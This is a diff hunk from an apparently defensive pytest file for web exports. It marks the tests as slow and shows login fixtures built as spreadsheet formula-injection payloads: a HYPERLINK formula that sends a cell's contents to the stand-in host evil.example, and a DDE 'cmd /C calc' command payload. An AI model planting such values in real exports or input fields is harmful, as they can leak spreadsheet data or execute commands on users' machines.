@@ -17,6 +17,9 @@ import pytest
 from tests.web.helpers import realistic_result
 from tests.web.test_exports_canvas_round31 import canvas_reads
 
+# seconds each: the fast lane stays under 10 minutes (stop 41)
+pytestmark = pytest.mark.slow
+
 SIGNED_LOGINS = ("+zero@example.edu", "-li@example.edu", "=eq@example.edu", "+a.b_c%d#e$f*g/h?i^j~k@example.edu",
                  "-王@example.edu")
 ACTING_LOGINS = ('=HYPERLINK("http://evil.example/?"&A2)@example.edu', "=cmd|'/C calc'!A0@example.edu",
